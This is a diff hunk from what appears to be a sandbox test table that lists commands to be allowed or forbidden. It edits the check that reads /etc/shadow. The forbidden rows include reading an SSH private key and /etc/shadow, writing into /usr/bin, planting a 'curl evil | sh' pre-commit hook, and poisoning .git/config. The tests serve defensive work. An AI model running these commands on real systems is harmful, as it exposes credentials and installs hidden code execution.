@@ -21,7 +21,7 @@ allowed "commit it"                           sh -c 'git add notes.txt && git -c
 allowed "run python3"                         python3 -c 'print(sum(range(10)))'
 allowed "child processes and pipes"           sh -c 'seq 1 100 | sort -n | tail -n1 | grep -q 100'
 forbidden "read a fake SSH key in \$HOME/.ssh" cat "$HOME/.ssh/id_ed25519"
-forbidden "read /etc/shadow"                  cat /etc/shadow
+forbidden "read /etc/shadow"                  grep -q '^root:' /etc/shadow
 forbidden "write outside the workspace"       sh -c 'echo evil > /usr/bin/evil'
 forbidden "write .git/hooks/pre-commit"       sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit'
 forbidden "rewrite .git/config"               sh -c 'echo "[core] fsmonitor = evil" >> .git/config'
